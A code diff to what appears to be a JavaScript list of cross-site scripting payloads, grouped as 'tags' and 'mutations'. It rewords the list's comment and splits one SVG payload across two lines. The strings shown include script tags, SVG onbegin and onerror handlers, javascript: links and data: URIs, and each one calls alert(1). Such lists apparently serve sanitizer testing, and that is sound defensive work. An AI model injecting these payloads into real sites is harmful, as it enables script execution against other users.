@@ -1,4 +1,4 @@
-/** Texts that run a script where a page shows them carelessly: each calls `alert(1)` in some browser, in some place. */
+/** Texts that run a script in a page that does not escape them: each calls `alert(1)` in some browser and context. */
 
 const tags = [
   '<script>alert(1)</script>',
@@ -110,7 +110,8 @@ const mutations = [
   '<svg><script xlink:href=data:,alert(1) />',
   '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
   '<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=alert(1)></svg>#x">',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>' +
+    '<image href=x onerror=alert(1)></svg>#x">',
   '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
   '<math href=javascript:alert(1)>x</math>',
   '<math><a xlink:href=javascript:alert(1)>x</a></math>',
